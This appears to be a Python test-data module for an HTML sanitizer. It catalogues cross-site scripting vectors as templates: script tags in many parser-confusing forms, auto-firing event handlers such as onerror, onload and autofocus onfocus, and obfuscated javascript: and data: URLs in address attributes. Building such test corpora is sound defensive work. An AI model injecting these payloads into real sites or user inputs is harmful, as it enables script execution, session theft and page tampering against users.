"""Script in every form."""

# In a tag of its own; `src` is tried as well.
ELEMENTS = {
    "plain": "<script>{run}</script>",
    "in capitals": "<SCRIPT>{run}</SCRIPT>",
    "module": "<script type=module>{run}</script>",
    "by address": "<script src='{out}/a.js'></script>",
    "by address without a scheme": "<script src='//127.0.0.1:9/a.js'></script>",
    "async": "<script async src='{out}/a.js'></script>",
    "deferred": "<script defer src='{out}/a.js'></script>",
    "of a module by address": "<script type=module src='{out}/m.js'></script>",
    "that imports": "<script type=module>import '{out}/i.js'</script>",
    "for old browsers": "<script nomodule>{run}</script>",
    "of a type with spaces": "<script type=' text/javascript '>{run}</script>",
    "by language": "<script language='JavaScript1.2'>{run}</script>",
    "ecmascript": "<script type='application/ecmascript'>{run}</script>",
    "for an event": "<script for=window event=onload>{run}</script>",
    "in data": "<script src='data:text/javascript,{run}'></script>",
    "in data as base64": "<script src='data:text/javascript;base64,dG9wLnN0b2xlbj0x'></script>",
    "with a slash in its tag": "<script/x>{run}</script>",
    "without an end": "<p>before</p><script>{run}",
    "behind a comment that never ends": "<!--><script>{run}</script>-->",
    "behind a bogus comment": "<!-- --!><script>{run}</script>",
    "in a closed title": "<title></title><script>{run}</script></title>",
    "in a textarea that is closed": "<textarea></textarea><script>{run}</script></textarea>",
    "in a style that is closed": "<style></style><script>{run}</script></style>",
    "in noscript": "<noscript><img src=x onerror=\"{run}\"><script>{run}</script></noscript>",
    "in noscript that is closed in a value": "<noscript><p title='</noscript><script>{run}</script>'></noscript>",
    "in a template": "<template><script>{run}</script></template>",
    "in a shadow root": "<div><template shadowrootmode=open><script>{run}</script></template></div>",
    "in a closed shadow root": "<div><template shadowrootmode=closed><img src=x onerror=\"{run}\"></template></div>",
    "in a table": "<table><script>{run}</script><tr><td>x</td></tr></table>",
    "in a select": "<select><script>{run}</script><option>x</select>",
    "in a frameset": "<frameset onload=\"{run}\"><frame src='javascript:{run}'></frameset>",
    "in an object": "<object><script>{run}</script></object>",
    "in xmp that is closed": "<xmp></xmp><script>{run}</script></xmp>",
    "in noembed that is closed": "<noembed></noembed><script>{run}</script></noembed>",
    "in iframe that is closed": "<iframe></iframe><script>{run}</script></iframe>",
    "in plaintext": "<plaintext></plaintext><script>{run}</script>",
    "in CDATA": "<svg><![CDATA[><script>{run}</script>]]></svg>",
    "of a processing instruction": "<?php ?><script>{run}</script>",
    "import map": "<script type=importmap>{\"imports\":{\"a\":\"{out}/map.js\"}}</script>"
    "<script type=module>import 'a'</script>",
    "speculation rules": "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":"
    "[\"{out}/prefetch\"],\"eagerness\":\"immediate\"}],\"prerender\":[{\"source\":\"list\",\"urls\":"
    "[\"{out}/prerender\"]}]}</script>",
    "web bundle": "<script type=webbundle>{\"source\":\"{out}/b.wbn\",\"resources\":[\"{out}/r\"]}</script>",
    "worklet by a style": "<style>p{background:paint(x)}</style><p>x</p><script>CSS.paintWorklet.addModule('{out}/w')</script>",
    "in SVG": "<svg><script>{run}</script></svg>",
    "in SVG by address": "<svg><script href='{out}/s.js'></script></svg>",
    "in SVG by an old address": "<svg><script xlink:href='data:text/javascript,{run}'></script></svg>",
    "in SVG that closes itself": "<svg><script href='{out}/s.js'/></svg>",
    "in MathML": "<math><mi><script>{run}</script></mi></math>",
    "in foreign HTML": "<svg><foreignObject><body onload=\"{run}\"><script>{run}</script></foreignObject></svg>",
}  # fmt: skip

# Handlers of what happens by itself, or on the way of drawing.
_SELF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
_MOVES = "<style>@keyframes k{from{color:blue}}p{animation:k 1ms 3;transition:color 1ms}</style>"
HANDLERS = {
    "load of a body": "<body onload=\"{run}\">",
    "load in capitals": "<body ONLOAD=\"{run}\">",
    "load of an image": f"<img src='{_SELF}' onload=\"{{run}}\">",
    "load of a style": "<style onload=\"{run}\">p{}</style>",
    "load of a link": "<link rel=stylesheet href='data:text/css,p{}' onload=\"{run}\">",
    "load of an iframe": "<iframe onload=\"{run}\"></iframe>",
    "load of an object": "<object data='data:text/plain,x' onload=\"{run}\"></object>",
    "load of an embed": "<embed src='data:text/html,x' onload=\"{run}\">",
    "load of SVG": "<svg onload=\"{run}\"></svg>",
    "load of an SVG image": f"<svg><image href='{_SELF}' onload=\"{{run}}\"></image></svg>",
    "load of an input": f"<input type=image src='{_SELF}' onload=\"{{run}}\">",
    "error of an image": "<img src='data:,' onerror=\"{run}\">",
    "error of an image with slashes": "<img/src=x/onerror={run}//>",
    "error of a video": "<video src='data:,' onerror=\"{run}\"></video>",
    "error of a source": "<video><source src='data:,' onerror=\"{run}\"></video>",
    "error of an audio": "<audio src='data:,' onerror=\"{run}\"></audio>",
    "error of an object": "<object data='x:' onerror=\"{run}\"></object>",
    "error of a script": "<script src='x:' onerror=\"{run}\"></script>",
    "error of a link": "<link rel=stylesheet href='x:' onerror=\"{run}\">",
    "error of a track": "<video><track default src='x:' onerror=\"{run}\"></video>",
    "begin of an animation in SVG": "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s></animate></svg>",
    "end of an animation in SVG": "<svg><set onend=\"{run}\" attributeName=x dur=1ms></set></svg>",
    "repeat of an animation in SVG": "<svg><animate onrepeat=\"{run}\" attributeName=x dur=1ms repeatCount=9></animate></svg>",
    "focus of a field": "<input autofocus onfocus=\"{run}\">",
    "focus of a link": "<a href='#' tabindex=0 autofocus onfocus=\"{run}\">x</a>",
    "focus of anything": "<x-y tabindex=0 autofocus onfocusin=\"{run}\">x</x-y>",
    "focus of a select": "<select autofocus onfocus=\"{run}\"><option>x</select>",
    "focus in SVG": "<svg><a tabindex=0 autofocus onfocus=\"{run}\"><text y=9>x</text></a></svg>",
    "page that is shown": "<body onpageshow=\"{run}\">",
    "page that is scrolled": "<body onscroll=\"{run}\"><p style='height:9999px'><input autofocus>",
    "page that is resized": "<body onresize=\"{run}\">",
    "page whose address changes": "<body onhashchange=\"{run}\"><meta http-equiv=refresh content='0;url=#x'>",
    "page that gets a message": "<body onmessage=\"{run}\">",
    "page with an error": "<body onerror=\"{run}\" onunhandledrejection=\"{run}\"><script>x</script>",
    "page that goes": "<body onunload=\"{run}\" onbeforeunload=\"{run}\" onpagehide=\"{run}\">",
    "start of an animation": f"{_MOVES}<p onanimationstart=\"{{run}}\">x",
    "end of an animation": f"{_MOVES}<p onanimationend=\"{{run}}\" onwebkitanimationend=\"{{run}}\">x",
    "repeat of an animation": f"{_MOVES}<p onanimationiteration=\"{{run}}\">x",
    "transition": "<style>@starting-style{p{opacity:0}}p{transition:opacity 1ms}</style><p ontransitionrun=\"{run}\" ontransitionend=\"{run}\">x",
    "details that open": "<details open ontoggle=\"{run}\">x</details>",
    "popover": "<div popover ontoggle=\"{run}\" onbeforetoggle=\"{run}\">x</div>",
    "media": "<audio controls src='data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAIA+AAACABAAZGF0YQAAAAA=' "
    "autoplay oncanplay=\"{run}\" onloadstart=\"{run}\" onloadedmetadata=\"{run}\" onplay=\"{run}\"></audio>",
    "marquee": "<marquee onstart=\"{run}\" onfinish=\"{run}\" loop=1>x</marquee>",
    "slot": "<div><template shadowrootmode=open><slot onslotchange=\"{run}\"></slot></template>x</div>",
    "visibility": "<div style='content-visibility:auto' oncontentvisibilityautostatechange=\"{run}\">x</div>",
    "selection": "<body onselectionchange=\"{run}\" onselectstart=\"{run}\"><input autofocus value=x>",
    "security": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\"><body onsecuritypolicyviolation=\"{run}\"><img src='{out}/i'>",
    "broken name": "<img src='data:,' x\"y' onerror=\"{run}\">",
    "behind a null": "<img src='data:,' on\0error=\"{run}\" onerror\0=\"{run}\">",
}  # fmt: skip

# Places that take an address.
ADDRESSES = {
    "iframe": "<iframe src=\"{to}\"></iframe>", "frame": "<frameset><frame src=\"{to}\"></frameset>",
    "object": "<object data=\"{to}\"></object>", "embed": "<embed src=\"{to}\">",
    "image": "<img src=\"{to}\">", "old image": "<img dynsrc=\"{to}\" lowsrc=\"{to}\">",
    "input": "<input type=image src=\"{to}\">", "body": "<body background=\"{to}\">",
    "table": "<table background=\"{to}\"><td background=\"{to}\">x</table>",
    "link": "<link rel=stylesheet href=\"{to}\">", "style": "<p style=\"background:url('{to}')\">x",
    "import": "<style>@import \"{to}\";</style>", "base": "<base href=\"{to}\"><img src=x>",
    "refresh": "<meta http-equiv=refresh content=\"0;url={to}\">",
    "form": "<form action=\"{to}\"><button autofocus>x</button></form>",
    "video": "<video src=\"{to}\" poster=\"{to}\"></video>", "portal": "<portal src=\"{to}\"></portal>",
    "SVG link": "<svg><a xlink:href=\"{to}\"><text y=9>x</text></a></svg>",
    "SVG use": "<svg><use href=\"{to}#x\"></use></svg>",
    "SVG set": "<svg><a id=x><set attributeName=href to=\"{to}\"></set><text y=9>x</text></a></svg>",
    "SVG animate": "<svg><image><animate attributeName=href values=\"{to};{to}\" dur=1s></animate></image></svg>",
    "MathML": "<math href=\"{to}\"><mi>x</mi></math>", "applet": "<applet code=\"{to}\" archive=\"{to}\"></applet>",
    "manifest": "<html manifest=\"{to}\"><link rel=manifest href=\"{to}\">",
}  # fmt: skip
# Ways to write a script as an address; each place tries one of them.
WRITTEN = [
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", " javascript:{run}",
    "&#1;javascript:{run}", "javascript&colon;{run}", "vbscript:{run}", "livescript:{run}",
    "view-source:javascript:{run}", "javascript://%0A{run}", "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>", "blob:null/{run}",
]  # fmt: skip

PAGES = (
    {f"script {name}": html for name, html in ELEMENTS.items()}
    | {f"handler of the {name}": html for name, html in HANDLERS.items()}
    | {
        f"address of a script in {name}": html.replace("{to}", WRITTEN[at % len(WRITTEN)])
        for at, (name, html) in enumerate(ADDRESSES.items())
    }
)
